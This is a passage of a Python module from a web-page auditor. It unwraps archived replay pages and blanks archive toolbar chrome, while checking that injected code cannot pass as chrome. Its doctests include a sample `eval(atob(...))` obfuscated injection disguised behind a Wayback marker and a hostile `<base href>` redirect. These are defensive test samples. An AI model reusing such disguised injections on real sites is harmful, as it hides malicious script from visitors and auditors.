"""Pages saved from a web archive's replay (the Wayback Machine, Archive-It, pywb and
ReplayWeb.page, which runs pywb's rewriting): audited as the original page they copy.

A replay rewrites every URL to the archive's copy (`/web/TS js_/https://vendor/…`) and adds
its own chrome (playback scripts, toolbar, banner styles, donate frame, the trailer after
`</html>`). Read as it is, the page is the archive's: one first party, no third parties, no
vendor named, and the chrome's own code judged as the page's. So a page that *is* a replay
(served from a known replay host, or carrying the replay's own marks) has its wrappers cut
from every URL and its chrome blanked before the audit; a page that only links to an
archive keeps those links as the archive's, and a region of chrome holding anything the
archive's chrome is not made of is the page's (any page can write the marks and comments).
Blanking keeps every newline and the chrome's elements, left empty, so line numbers and
xpaths still point into the saved file.

archive.today (archive.ph, .md, .is, …) wraps nothing: it drops scripts and keeps the
page's images under its own host, named by hash. Its snapshot gets the original's first
party and time from the header's long link, and the archive's own URLs and header are left
out: a copy whose name does not say whose it was can be attributed to no one.
"""

from __future__ import annotations

import bisect
import dataclasses
import hashlib
import html
import ipaddress
import re
from collections import Counter
from dataclasses import dataclass
from datetime import datetime

from auditor.dom.deobfuscate import ATTRIBUTE_PIECE
from auditor.lazy_re import lazy_regex
from auditor.model import Replay
from auditor.readers.interface import Document
from auditor.readers.parts import saved_part_url
from auditor.saved import saved_file_name
from auditor.urls import (
    ARCHIVE_TODAY_HOSTS,
    REPLAY_HOSTS,
    absolute_url,
    archive_today_snapshot,
    directory_page,
    host_matches,
    host_of,
    host_under,
    replay_page_url,
    replay_wrapper,
    split_url,
)

WAYBACK = "Wayback Machine"
PYWB = "pywb"
ARCHIVE_TODAY = "archive.today"

# the marks a replay leaves in the page (Wayback's playback init and trailer, pywb's head
# insert), each naming the original URL and the capture's timestamp; a mark counts only as
# a statement of a script (`_runs`): a page quoting one in its text, a `<pre>` or a string is
# a page about replays, not one
_STATEMENT = r"""(?<![\w$.'"\\])"""
_WOMBAT = lazy_regex(_STATEMENT + r'__wm\.wombat\(\s*"([^"]{0,4096})"\s*,\s*"(\d{4,14})"\s*,'
                     r'\s*"([^"]{0,4096})"\s*,\s*"([^"]{0,4096})"')
_TRAILER = lazy_regex(_STATEMENT + r'__wm\.bt\([^)"]{0,200}"([^"]{0,200})"\s*,\s*"([^"]{0,4096})"'
                      r'\s*,\s*"(\d{4,14})"')
_ARCHIVED = lazy_regex(r"<!--\s*FILE ARCHIVED ON (\d\d?:\d\d:\d\d \w{3} \d\d, \d{4}) AND "
                       r"RETRIEVED FROM THE\s+INTERNET ARCHIVE")
_WBINFO_URL = lazy_regex(_STATEMENT + r'wbinfo\.url\s*=\s*"([^"]{0,4096})"')
_WBINFO_TS = lazy_regex(_STATEMENT + r'wbinfo\.timestamp\s*=\s*"(\d{4,14})"')
_WBINFO_PREFIX = lazy_regex(_STATEMENT + r'wbinfo\.prefix\s*=\s*(?:decodeURI\(\s*)?'
                            r'"([^"]{0,4096})"')
_SCRIPT_TAG = lazy_regex(r"<(/?)script\b[^>]{0,4096}>?", re.I)
_SCRIPT_OPEN = lazy_regex(r"<script", re.I)
_MARKS_TRIED = 8  # a page quoting marks before its own replay's is no page we need to read

# archive.today keeps no scripts and no wrapped URLs: its snapshot names the original in the
# header's share box (`<input id="SHARE_LONGLINK" value="https://archive.ph/<time>/<url>">`)
# and holds the page in `#CONTENT` after its `#HEADER`
# (an id is case-sensitive: only its attribute's name may be written in capitals)
_LONGLINK_ID = "SHARE_LONGLINK"
_LONGLINK = lazy_regex(rf"""\b[iI][dD]=["']?{_LONGLINK_ID}\b""")  # then its tag, around it
# what each mark's pattern holds, lowered: a page's lowered markup holding none of them is
# no replay by its marks (asked of the page's one literal pass, not a scan each)
MARKS = frozenset({b"__wm.", b"wbinfo", b"file archived on", _LONGLINK_ID.lower().encode()})
_VALUE = lazy_regex(r"""\bvalue\s*=\s*(?:"([^"]*)"|'([^']*)')""", re.I)
# every URL on its own hosts is the archive's (its copies of the page's images and styles,
# named by hash, say not whose they were; its canonical, og:url, screenshot and FAQ links)
_TODAY_NAMES = "|".join(re.escape(h) for h in sorted(ARCHIVE_TODAY_HOSTS))
_TODAY_URLS = lazy_regex(rf"(?i)(?:https?:)?//(?:{_TODAY_NAMES})(?![\w.-])[^\"'\s>]*")

# the archive's chrome: each region from a start to an end (the end kept when it is the
# page's), found left to right so a page full of starts with no end costs one pass
_Region = tuple[re.Pattern[str], re.Pattern[str], bool]
_CHROME: tuple[_Region, ...] = (
    (lazy_regex(r"<!--\s*BEGIN WAYBACK TOOLBAR INSERT\s*-->", re.I),
     lazy_regex(r"<!--\s*END WAYBACK TOOLBAR INSERT\s*-->", re.I), False),
    (lazy_regex(r"<!--\s*WB Insert\s*-->", re.I), lazy_regex(r"<!--\s*End WB Insert\s*-->", re.I),
     False),
    (lazy_regex(r"<script\b[^>]{0,400}>\s*(?://<!\[CDATA\[\s*)?__wm\.bt\(", re.I),
     lazy_regex(r"</script\s*>", re.I), False),
    (lazy_regex(r"<!--\s*FILE ARCHIVED ON\b"), lazy_regex("-->"), False),
    # 2014-2016's head include, which no comment closes: the archive's analytics, the
    # server that played the page back, the toolbar's style
    (lazy_regex(r"""<script\b[^>]{0,400}\bsrc=["']?(?:(?:https?:)?//web\.archive\.org)?"""
                r"/static/js/analytics\.js\b", re.I),
     lazy_regex(r"""<link\b[^>]{0,400}/static/css/banner-styles\.css["']?\s*/?>""", re.I), False),
)
_HEAD_INCLUDE_END = lazy_regex(r"<!--\s*End Wayback Rewrite JS Include\s*-->", re.I)
_HEAD = lazy_regex(r"<(?:head|html|!doctype)\b[^>]{0,4096}>", re.I)
# what the archive's chrome is made of (Wayback's head include, toolbar and trailer since
# 2011, archive.today's header): a region holding anything else is the page's, so a page
# that writes a replay's marks and dresses an injection as chrome hides nothing. Its
# elements and their attributes, what they load (the archive's hosts and static paths
# only), its style (no escapes; url() the archive's) and its scripts' statements (the
# archive's calls with literal arguments) are read against these lists
_CHROME_TAGS = frozenset(
    "a abbr b br button canvas center div em form h1 h2 h3 h4 h5 h6 hr i iframe img input "
    "label li link nav ol p script section small span strong style table tbody td th thead "
    "template tr u ul".split())
_FREE_ATTRIBUTES = frozenset(
    "align alt async border cellpadding cellspacing charset colspan crossorigin defer "
    "dir for frameborder height itemprop lang maxlength method name nowrap placeholder "
    "readonly rel role rowspan scrolling size tabindex target title type valign value "
    "width autocomplete accesskey hidden spellcheck toolbar-mode source".split())
_LOADED_ATTRIBUTES = frozenset(("src", "srcset", "href", "action"))
# the names the archive's chrome gives its elements: the Wayback toolbar's `wm-…` ids and
# classes (2011-2016's one-letter cells and date readouts too, 2018's `iconochive-…` icons),
# the donate frame's, archive.today's header's capitals. Any other id or class is the
# page's: `<div id="wm-ipp" class="adsbygoogle">` or a GPT slot's `div-gpt-ad-…` element
# dressed as chrome is an ad slot, and blanked it would leave the slot count
_CHROME_IDS = lazy_regex(r"wm[\w-]{0,64}|donato[\w-]{0,64}|display(?:Year|Month|Day)El|"
                         r"sparklineImgId|wbMouseTrack(?:Year|Month)Img|HEADER|SHARE_[A-Z]{1,32}")
_CHROME_CLASSES = lazy_regex(r"[a-z]|yt|mt|hi|sparkline|c-logo|xxs|xs|xxs-hide|xs-hide|"
                             r"(?:wm|wb|iconochive)-[\w-]{1,64}")
_ID_ATTRIBUTE = lazy_regex(r"""\bid\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+))""", re.I)
# a name in a string (a template literal's too), a #selector, an unquoted value (`[id=x]`)
_NAMED = lazy_regex(r"""["'`#;=]([\w-]{1,80})(?![\w-])""")
_TAG = lazy_regex(r"""<(/?)([A-Za-z][A-Za-z0-9-]{0,64})((?:[^>"']|"[^"]*"|'[^']*')*)>""")
_COMMENT = lazy_regex(r"<!--(?:>|->|.*?--!?>)", re.S)
_ATTRIBUTE = lazy_regex(r"""[\s/]*([^\s/>="'<]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|"""
                        r"""([^\s"'=<>`]+)))?""")
_STATIC_PATH = lazy_regex(r"/(?:_?static|includes)/[\w./-]*(?:[?#][^\s]*)?|"
                          r"(?:/web)?/jsp/graph\.jsp\?graphdata=[\w:.-]*")  # 2011-2016's sparkline
# where the toolbar's search form sends the URL typed in it (`action` only: as a frame's
# `src`, `/web/submit?url=…` is the archive's copy of another site's page)
_SUBMIT = lazy_regex(r"(?i)(?:(?:https?:)?//(?:web\.|wayback\.)?archive\.org)?"
                     r"/web/(?:submit|form-submit\.jsp)(?:[?#]\S*)?")
# the archive's own files on archive.org (2011-2016's sparkline is drawn by its graph.jsp),
# and the static hosts' (2011-2012's toolbar loads from staticweb)
_ARCHIVE_FILES = lazy_regex(r"/(?:(?:_static|static|includes|services/img)/|"
                            r"(?:web/)?jsp/graph\.jsp$)")
_STATIC_HOSTS = frozenset({"staticweb.archive.org", "web-static.archive.org"})
# their toolbar's folders: an archive.org host may route `/web/<time>js_/https:/…` (a
# replay of another site's code) or `/download/…` (an item anyone uploads) as the rest do
_STATIC_HOST_FILES = lazy_regex(r"/(?:images|js|jflot|css)/")
# a browser's "Save as" keeps the files a page loaded beside it (`./<title>_files/`, as
# `saved.saved_file_name` reads the name they had): the archive's own, by their names,
# are its chrome's
_ARCHIVE_SAVED_NAMES = frozenset({
    "bundle-playback.js", "wombat.js", "ruffle.js", "analytics.js", "disclaim-element.js",
    "graph-calc.js", "wbhack.js", "ait-client-rewrite.js", "toolbar.js", "banner-styles.css",
    "iconochive.css", "loading.gif"})
_ARCHIVE_SAVED_IMAGE = lazy_regex(r"(?:wayback-toolbar-logo[\w-]*|wm_tb_\w+|transp-\w+-pixel)\.png")
_PYWB_FILE = lazy_regex(r"(?i)(?:https?:)?//([^/?#\\:@]+)(?::\d{1,5})?/static/(?:wombat|"
                        r"wombatProxyMode|wombatWorkers|default_banner|vue/vue_banner|wb_frame|"
                        r"transclusions|vidrw|ui)\.(?:js|css)")
_SHARE_HOSTS = ("facebook.com", "twitter.com", "x.com", "linkedin.com", "reddit.com",
                "tumblr.com", "pinterest.com")  # the toolbar's share box
_SCAN = lazy_regex(r"""<!--(?:>|->|.*?--!?>|.*\Z)|<[!?][^>]*>?|"""
                   r"""<(/?)([A-Za-z][A-Za-z0-9-]{0,64})(?:[^>"']|"[^"]*"?|'[^']*'?)*>?""", re.S)
_RAW_TEXT = frozenset(("script", "style", "textarea", "title", "xmp", "iframe", "noembed",
                       "noframes", "noscript", "plaintext"))
_CSS_URL = lazy_regex(r"""url\(\s*["']?([^"')\s]*)|@import\s*["']([^"']*)""", re.I)
_CSS_BAD = lazy_regex(r"\\|expression|behavior|binding|image-set|@import\s*[^\s\"'u]", re.I)
_LITERAL = r"""(?:"[^"\\\n]*"|'[^'\\\n]*'|-?\d+(?:\.\d+)?|true|false|null)"""
# each run of blanks has one place to go (a blank after an item is the item's), so a call
# left open after a megabyte of blanks fails in one pass, not one per way to split them
_LIST = rf"\s*(?:{_LITERAL}\s*(?:,\s*{_LITERAL}\s*)*(?:,\s*)?)?"  # commas required
_ITEM = rf"(?:{_LITERAL}|\[{_LIST}\])"
_ARGS = rf"\s*(?:{_ITEM}\s*(?:,\s*{_ITEM}\s*)*(?:,\s*)?)?"
_PAIR = rf"{_LITERAL}\s*:\s*{_LITERAL}"
# the toolbar's handlers: focusing its field, calling the archive's code with the event, the
# element or literals (2015's `__wm.mv(event,this)`, 2018's `__wm.saveSnapshot(url, time)`),
# and 2018's share buttons opening the share box's page (`_handler_archives` reads the hosts);
# 2011-2013's sparkline calling its trackers with their own arguments, its close link hiding
# the toolbar, its field focused after a `javascript:` label
_CALL_ARG = rf"(?:event|this|{_LITERAL})"
_SHARE_OPEN = (r"window\.open\(\s*'https://([A-Za-z0-9.-]{1,253})/[^'\\\n]*'\s*,\s*''\s*,"
               r"\s*'[\w=,]*'\s*\)")
_HANDLER = lazy_regex(r"\s*(?:javascript:)?(?:(?:this\.(?:focus|select|blur)\(\)|"
                      rf"__wm\.\w+\((?:{_CALL_ARG}(?:\s*,\s*{_CALL_ARG})*)?\)|{_SHARE_OPEN}|"
                      r"showTrackers\('(?:inline|none)'\)|trackMouseMove\(event,\s*this\)|"
                      r"document\.getElementById\('wm-ipp'\)\.style\.display\s*=\s*'none'|"
                      r"return\s+(?:false|true))\s*(?:;\s*)?)+")
# pywb's framed replay (the default: `mp_`) sends a page opened outside its frame back to
# the top page, `wbinfo.top_url`: read only beside that URL's literal, set just before (an
# http one: `javascript:…` there would run)
_TOP_FRAME = (
    r"""wbinfo\s*=\s*\{\s*\}\s*;\s*wbinfo\.top_url\s*=\s*(?:"https?://[^"\\\n]*"|"""
    r"""'https?://[^'\\\n]*')\s*;\s*"""
    r"(?://[ \t]*Fast Top-Frame Redirect[ \t]*\n\s*)?"
    r"if\s*\(\s*window\s*==\s*window\.top\s*&&\s*wbinfo\.top_url\s*\)\s*\{\s*"
    r"var\s+loc\s*=\s*window\.location\.href\.replace\(\s*window\.location\.hash\s*,\s*\"\"\s*\)"
    r"\s*;\s*loc\s*=\s*decodeURI\(\s*loc\s*\)\s*;\s*"
    r"if\s*\(\s*loc\s*!=\s*decodeURI\(\s*wbinfo\.top_url\s*\)\s*\)\s*\{\s*"
    r"window\.location\.href\s*=\s*wbinfo\.top_url\s*\+\s*window\.location\.hash\s*;?\s*\}\s*\}")
_STATEMENTS = lazy_regex(
    r"(?:\s|;|//<!\[CDATA\[|//\]\]>|"
    rf"(?:__wm|__wbhack)\.\w+\({_ARGS}\)|WB_wombat_Init\({_ARGS}\)|{_TOP_FRAME}|"
    rf"window\.devicePixelRatio\s*=\s*1|archive_analytics\.values\.\w+\s*=\s*{_LITERAL}|"
    rf"wbinfo(?:\.\w+)?\s*=\s*(?:{_LITERAL}|\{{\s*\}}|decodeURI\(\s*{_LITERAL}\s*\))|"
    r"if\s*\(\s*window\s*&&\s*window\._WBWombatInit\s*\)\s*\{\s*"
    r"window\._WBWombatInit\(\s*wbinfo\s*\)\s*;?\s*\}|"
    r"window\.RufflePlayer\s*=\s*window\.RufflePlayer\s*\|\|\s*\{\}|"
    rf"window\.RufflePlayer\.config\s*=\s*\{{\s*(?:{_PAIR}\s*(?:,\s*{_PAIR}\s*)*(?:,\s*)?)?\}}|"
    r"window\.addEventListener\(\s*'DOMContentLoaded'\s*,\s*function\s*\(\)\s*\{\s*"
    r"var\s+v\s*=\s*archive_analytics\.values\s*;(?:\s*v\.\w+\s*=\s*(?:'[^'\\\n]*'|\d+)\s*;)*"
    r"\s*archive_analytics\.send_pageview\(\s*\{\s*\}\s*\)\s*;?\s*\}\s*\))*")
# a link to an archive's capture: `/web/<time><mod>/`, pywb's `/<coll>/<time><mod>/`, or the
# list `/web/*/`, then the page captured, with or without its scheme
_WRAPPED_LINK = lazy_regex(r"(?i)/(?:[^/?#]+/){0,3}?(?:\d{1,14}\*?|\*)(?:[a-z]{2}_)?/+"
                           r"(?:[a-z][a-z0-9+.-]*:/*)?([^/?#:@]+)")
_STRING_HOST = lazy_regex(r"""(?:https?:)?//([A-Za-z0-9.-]{1,253})""", re.I)
_MARKUP = lazy_regex(r"<!--.*?(?:-->|\Z)|<(/?[A-Za-z][A-Za-z0-9-]{0,64})[^>]*>?", re.S)
_TODAY_CHROME: tuple[_Region, ...] = (
    (lazy_regex(r"""<div\b[^>]{0,400}\bid=["']?HEADER\b""", re.I),
     lazy_regex(r"""<div\b[^>]{0,400}\bid=["']?CONTENT\b""", re.I), True),
)
_NOTHING = lazy_regex(r"(?!)")  # archive.today wraps no URL
_ARCHIVES = ("archive.org", "archive-it.org")  # their playback's own hosts
_REPLAYERS = (*_ARCHIVES, "replayweb.page")  # hosts whose wrappers are the archive's
# what chrome may load, what its calls name, the hosts serving pywb's own files
# and whether a path from the root is the page's own host's (no `<base>` sends it elsewhere)
_Hosts = tuple[frozenset[str], frozenset[str], frozenset[str], bool]
# (a quoted value read whole: `<base data-x="a>b" href=…>` hid its href, and the chrome's
# root paths, which that base sends elsewhere, were the archive's)
_BASE_HREF = lazy_regex(r"<base\b" + ATTRIBUTE_PIECE + r"""*?\bhref\s*=\s*["']?([^"'\s>]*)""",
                        re.I)


@dataclass(frozen=True, slots=True)
class _Found:
    """What a page says of its replay: whose, of what, when, and where its wrappers point."""

    archive: str
    original: str | None
    stamp: str | None  # the replay's timestamp, YYYYMMDDhhmmss or a prefix of it
    hosts: tuple[str, ...]  # the archive hosts an absolute wrapper names
    collection: str  # the collection path a wrapper starts with: `web`, `1234`, `my-coll`
    captured: str | None = None  # ISO time, when only the trailer comment gives it


def replay_of(text: str, url: str | None, held: frozenset[bytes] = MARKS) -> _Found | None:
    """The replay a page is, from its URL on a known replay host or its own marks; None for
    any other page (one that only links to an archive too). `held`: which of `MARKS` the
    page's lowered markup holds (its one literal pass answers them); the patterns are
    tried only for those."""
    at = replay_page_url(url) if url else None
    wayback = b"__wm." in held
    if wayback and (m := _mark(_WOMBAT, text)):
        host = host_of(m.group(3))
        hosts = tuple(h for h in {host, at[0] if at else ""} if h)
        return _Found(REPLAY_HOSTS.get(host, WAYBACK), _url(m.group(1)), m.group(2), hosts,
                      m.group(4) or "web")
    if b"wbinfo" in held and (u := _mark(_WBINFO_URL, text)) and (
            t := _mark(_WBINFO_TS, text)):
        prefix = _mark(_WBINFO_PREFIX, text)
        parts = split_url(prefix.group(1)) if prefix else None
        hosts = (parts.hostname,) if parts is not None and parts.hostname else ()
        collection = parts.path.strip("/") if parts is not None else ""
        if collection:
            return _Found(REPLAY_HOSTS.get(hosts[0], PYWB) if hosts else PYWB,
                          _url(u.group(1)), t.group(1), hosts, collection)
    if today := _archive_today(text, url, held):
        return today
    trailer = _mark(_TRAILER, text) if wayback else None
    comment = _ARCHIVED.search(text) if b"file archived on" in held else None
    if comment is not None and _runs(text, comment.start()):
        comment = None  # a script's string, not the trailer's comment
    if trailer or comment or at:
        hosts = (at[0],) if at else ("web.archive.org",)
        return _Found(
            REPLAY_HOSTS.get(hosts[0], WAYBACK),
            _url(trailer.group(2)) if trailer else (_url(at[3]) if at else None),
            trailer.group(3) if trailer else (at[2] if at else None),
            hosts,
            trailer.group(1) if trailer else (at[1] if at else "web"),
            _comment_time(comment.group(1)) if comment else None,
        )
    return None


def _mark(pattern: re.Pattern[str], text: str) -> re.Match[str] | None:
    """The first of `pattern`'s marks that a script of the page runs."""
    for n, m in enumerate(pattern.finditer(text)):
        if n == _MARKS_TRIED:
            break
        if _runs(text, m.start()):
            return m
    return None


def _runs(text: str, pos: int) -> bool:
    """Whether `pos` is inside a `<script>` element's code, not the page's text (a `<pre>`
    quoting a replay's code) or an attribute."""
    last = None
    for tag in _SCRIPT_TAG.finditer(text, 0, pos):
        last = tag
    return last is not None and not last.group(1) and last.group(0).endswith(">")


def _archive_today(text: str, url: str | None, held: frozenset[bytes]) -> _Found | None:
    """An archive.today snapshot, from its URL or its header's long link; its original
    from the long link (the short URL names none)."""
    at = archive_today_snapshot(url) if url else None
    link = _LONGLINK.search(text) if b"share_longlink" in held else None
    if link is not None and _runs(text, link.start()):
        link = None  # a script's string holding the header's markup
    tag = text[text.rfind("<", 0, link.start()):text.find(">", link.end())] if link else ""
    value = _VALUE.search(tag) if tag.lower().startswith("<input") else None
    written = html.unescape(value.group(1) or value.group(2) or "") if value else ""
    long = archive_today_snapshot(written) if written else None
    if long is None or long[2] is None:
        long = at if at is not None and at[2] is not None else None
    if at is None and long is None:
        return None
    return _Found(ARCHIVE_TODAY, _url(long[2] or "") if long else None,
                  long[1] if long else None, (), "")


def unwrapped(doc: Document, held: frozenset[bytes] = MARKS) -> tuple[Document, Replay | None]:
    """`doc` as the original page it is a replay of (URLs unwrapped, the archive's chrome
    blanked), with the replay's record; `doc` itself when it is no replay. `held` as for
    `replay_of`."""
    found = replay_of(doc.text, doc.url, held) if doc.markup else None
    if found is None:
        return doc, None
    # the archive host a page's marks name is the page's to write: its wrappers are cut only
    # on a host that is an archive's, the one the page was fetched from, or (a file alone)
    # a replay running on this machine; `evil.test/web/<time>js_/https://jquery…` is
    # evil.test's code, never jQuery's
    served_host = (host_of(doc.url) or "").lower() if doc.url else None
    trusted = tuple(h for h in found.hosts if _trusted_archive(h.lower(), served_host)) or (
        ("web.archive.org",) if found.archive == WAYBACK else ())
    found = dataclasses.replace(found, hosts=trusted)
    wrapper = replay_wrapper(found.hosts, found.collection) if found.collection else _NOTHING

    def clean(text: str) -> str:
        if found.archive == ARCHIVE_TODAY:
            return _TODAY_URLS.sub(lambda m: _blanks(m.group(0)),
                                   _without(_TODAY_CHROME, text, own))
        return wrapper.sub("", _without(_CHROME, _without_head_include(text, own), own))

    served = doc.url if doc.url and (wrapper.match(doc.url) or archive_today_snapshot(doc.url)
                                     ) else None  # the URL the archive served it at
    unwrapped_url = wrapper.sub("", served, count=1) if served else ""
    original = found.original or (_url(unwrapped_url) if unwrapped_url != served else None)
    replay = Replay(found.archive, original,
                    found.captured or (_stamp_time(found.stamp) if found.stamp else None),
                    served)
    # what the chrome may load: the archive's own hosts (not those its marks name, which
    # any page can write); what its calls may name: the page's own too (the trailer's
    # call names the original)
    loads = frozenset((*_ARCHIVES, *(ARCHIVE_TODAY_HOSTS if found.archive == ARCHIVE_TODAY
                                     else ())))
    replayer = frozenset(h.lower() for h in found.hosts)  # pywb's, on any host: its files
    # the page the chrome may name is the one audited: the URL the user gave or the archive
    # served it at says whose; the marks' original (any page can write casino.test there)
    # counts only as the same site, else a hidden block of links to it was the toolbar's
    audited = (unwrapped_url if served and unwrapped_url != served else None) or (
        doc.url if doc.url and not served else None)
    named = {h.lower() for h in (host_of(audited) if audited else None,
                                 host_of(original) if original else None) if h}
    if audited and original and not _same_site(host_of(audited) or "", host_of(original) or ""):
        named = {(host_of(audited) or "").lower()}
    named |= {h.removeprefix("www.") for h in named}  # its links name youtube.com too
    own = (loads, loads | replayer | frozenset(named or {"a.invalid"}), replayer,
           not _base_elsewhere(doc.text, loads | replayer, served_host))
    return dataclasses.replace(
        doc,
        text=clean(doc.text),
        url=doc.url if doc.url and not served else original,  # a URL the user gave stands
        readings=tuple(reading.cleaned(clean) for reading in doc.readings),
        header_links=wrapper.sub("", doc.header_links),
        saved_parts=wrapper.sub("", _without_own_parts(doc.saved_parts, loads, replayer)),
    ), replay


def _without_own_parts(parts: str, loads: frozenset[str], replayer: frozenset[str]) -> str:
    """A saved copy's parts (`Document.saved_parts`, one a line) without the archive's own
    files: the toolbar's sheets, fonts and images and its donate frame, which an MHTML of a
    replay holds beside the page's (the archive's copies of the page's files are wrapped,
    `/web/<time>im_/…`, never its own). The replay's text has its chrome blanked; its
    parts counted `web-static.archive.org` and `archive.org` as the page's third parties."""
    if not parts:
        return parts
    kept = [line for line in parts.split("\n")
            if (url := saved_part_url(line)) is None
            or not (_loads_archives(url, loads, rooted=False) or _pywb_file(url, replayer))]
    return "\n".join(kept)


def _same_site(a: str, b: str) -> bool:
    """Whether two hosts are one site's (`www.a.test` and `a.test`)."""
    a, b = a.lower().rstrip("."), b.lower().rstrip(".")
    return host_matches(a, b) or host_matches(b, a)


def _base_elsewhere(text: str, archives: frozenset[str], served: str | None) -> bool:
    """Whether a `<base href>` of the page (any of them: a browser takes the first, which a
    string before it may only seem to be) sends paths from the root to a host that is not
    the archive's or the page's: `/static/x.html` is then that host's frame.

    >>> _base_elsewhere('<base href="https://evil.test/">', frozenset({"archive.org"}), None)
    True
    >>> _base_elsewhere('<base href="https://web.archive.org/web/2023/https://a.test/">'
    ...                 '<base href="/x/">', frozenset({"archive.org"}), "a.test")
    False
    """
    for m in _BASE_HREF.finditer(text) if "<base" in text.lower() else ():
        href = re.sub(r"[\x00-\x20]", "", html.unescape(m.group(1))).replace("\\", "/")
        host = re.match(r"(?i)(?:[a-z][a-z0-9+.-]*:)?//([^/?#:@]*@)?([^/?#:]*)", href)
        if host is None:
            if re.match(r"(?i)[a-z][a-z0-9+.-]*:", href):
                return True  # a base at data: or javascript: is no page's own
            continue
        name = host.group(2).lower().rstrip(".")
        if name != served and not host_under(name, archives):
            return True
    return False


def _trusted_archive(host: str, served: str | None) -> bool:
    """Whether a replay host a page's marks name may have its wrappers cut: an archive's
    own, the host the page was fetched from, or, for a file given with no URL, a replay
    served on this machine or its network (pywb, ReplayWeb.page's local server).

    >>> [_trusted_archive(h, None) for h in ("web.archive.org", "localhost", "evil.test")]
    [True, True, False]
    >>> _trusted_archive("evil.test", "www.site.test"), _trusted_archive("w.org", "w.org")
    (False, True)
    """
    if host == served or host_under(host, _REPLAYERS):
        return True
    if served is not None:
        return False
    if host == "localhost" or host.endswith((".localhost", ".local")):
        return True
    try:
        return ipaddress.ip_address(host.strip("[]")).is_private
    except ValueError:
        return False


class _Markup:
    """Where a page's text is markup (inside a tag or a comment) or a raw-text element's
    body (a script, a style, a title…), as a browser reads it: a chrome comment there is
    a string, a JavaScript comment or an attribute's value, not the archive's, and the
    region it would start is the page's (`<script>\n<!-- BEGIN WAYBACK TOOLBAR INSERT -->`
    is a JavaScript comment and the code after it runs)."""

    def __init__(self, text: str) -> None:
        self.starts: list[int] = []
        self.ends: list[int] = []
        pos = 0
        while m := _SCAN.search(text, pos):
            self.starts.append(m.start() + 1)
            self.ends.append(m.end())
            pos = m.end()
            name = (m.group(2) or "").lower()
            if m.group(1) or name not in _RAW_TEXT:
                continue
            close = re.compile(rf"</{name}\b", re.I)
            stop = close.search(text, pos)
            body_end = stop.start() if stop else len(text)
            escape = text.find("<!--", pos, body_end)  # the first: one search, not one a comment
            if name == "script" and escape >= 0 and _SCRIPT_OPEN.search(text, escape, body_end):
                # an escaped script runs past its first end tag (HTML's double-escaped state)
                past = text.find("-->", body_end)
                stop = close.search(text, past) if past >= 0 else None
                body_end = stop.start() if stop else len(text)
            self.starts.append(pos)
            self.ends.append(body_end)
            pos = body_end

    def data(self, pos: int) -> bool:
        """Whether `pos` is where a browser reads text and tags, not inside one."""
        i = bisect.bisect_right(self.starts, pos) - 1
        return i < 0 or pos >= self.ends[i]


def _without(regions: tuple[_Region, ...], text: str, own: _Hosts) -> str:
    """`text` with each region that is the archive's (`_the_archives`) blanked."""
    for start, end, keep_end in regions:
        seek = 0
        markup: _Markup | None = None  # read once a region is there to judge
        found: list[tuple[int, int]] = []  # the regions made of the chrome's own
        while (a := start.search(text, seek)) and (b := end.search(text, a.end())):
            stop = b.start() if keep_end else b.end()
            markup = markup or _Markup(text)
            if markup.data(a.start()) and (not text.startswith("<!--", b.start()) or markup.data(
                    b.start())) and _the_archives(text[a.start():stop], *own):
                found.append((a.start(), stop))
            seek = stop  # a start inside a region that is not chrome is not chrome either
        if not found:
            continue
        # the names the page writes outside all of them: a page holding the toolbar twice
        # (a capture of a saved copy) has each name the other's ids, and neither is the page's
        outside = _names(text)
        for region in found:
            outside.subtract(_names(text, *region))
        out: list[str] = []
        pos = 0
        for first, last in found:
            if not _named_outside(text, first, last, outside):
                out += [text[pos:first], _blanked(text[first:last])]
                pos = last
        text = "".join(out) + text[pos:]
    return text


def _without_head_include(text: str, own: _Hosts) -> str:
    """`text` with Wayback's head include blanked: from the `<head>` tag it follows (which
    is the page's and stays; lacking one, the `<html>` tag or doctype) to the comment
    closing it."""
    end = _HEAD_INCLUDE_END.search(text)
    if end is None:
        return text
    start = 0
    for head in _HEAD.finditer(text, 0, end.start()):
        start = head.end()
    markup = _Markup(text)
    if not (markup.data(start) and markup.data(end.start())
            and _the_archives(text[start:end.end()], *own)
            and not _named_outside(text, start, end.end(),
                                   _names(text) - _names(text, start, end.end()))):
        return text
    return text[:start] + _blanked(text[start:end.end()]) + text[end.end():]


def _names(text: str, start: int = 0, stop: int | None = None) -> Counter[str]:
    """How often each name is written in a string or a `#selector` (quotes escaped as
    entities too) in `text` from `start` to `stop`: one pass, whatever the ids."""
    return Counter(m.group(1) for m in _NAMED.finditer(
        text, start, len(text) if stop is None else stop))


def _named_outside(text: str, start: int, stop: int, outside: Counter[str]) -> bool:
    """Whether the page outside the chrome names one of a region's elements' ids
    (`outside`: the page's `_names` less the chrome's): the archive's own code names them
    only inside its chrome, and `googletag.defineSlot(…, 'wm-ipp')` in the page makes that
    element the page's ad slot.

    >>> text = '<div id="wm-ipp"></div><script>googletag.display("wm-ipp")</script>'
    >>> _named_outside(text, 0, 23, _names(text) - _names(text, 0, 23))
    True
    >>> _named_outside(text, 0, 23, _names(text[:23]) - _names(text, 0, 23))
    False
    """
    ids = {next(v for v in m.group(1, 2, 3) if v is not None)
           for m in _ID_ATTRIBUTE.finditer(text, start, stop)}
    ids.discard("")
    return any(outside[i] > 0 for i in ids)


def _the_archives(region: str, own: frozenset[str], named: frozenset[str],
                  replayer: frozenset[str] = frozenset(), rooted: bool = True) -> bool:
    r"""Whether a region of chrome is made only of what the archive's chrome holds
    (`_CHROME_TAGS`), loading nothing but from the archive's own hosts (`own`) or static
    paths (from the page's root only when `rooted`: no `<base>` sends them elsewhere), and
    running only the archive's calls; the URLs its calls' strings hold may also name the
    page (`named`). Anything else is the page's or an injection's: marks and
    chrome comments any page can write must not hide code.

    >>> own, named = frozenset({"archive.org"}), frozenset({"archive.org", "a.test"})
    >>> _the_archives('<script src="https://web-static.archive.org/_static/w.js"></script>',
    ...               own, named)
    True
    >>> _the_archives('<a href="https://a.test/">a</a><img src="/static/i.png">', own, named)
    True
    >>> _the_archives('<a href="https://x.test/">x</a>', own, named)
    False
    >>> _the_archives('<input name=url value="http://x.test/"><img src="//x.test/p.gif">',
    ...               own, named)
    False
    >>> _the_archives("<script>__wm.bt(1);eval(atob('cy5zcmM9Li4u'))</script>", own, named)
    False
    >>> _the_archives('<script>__wm.bt(675,"web","https://a.test/",["x"], false);</script>',
    ...               own, named)
    True
    """
    pos = 0
    pages: set[str] = set()  # the pages its links lead to, or to captures of
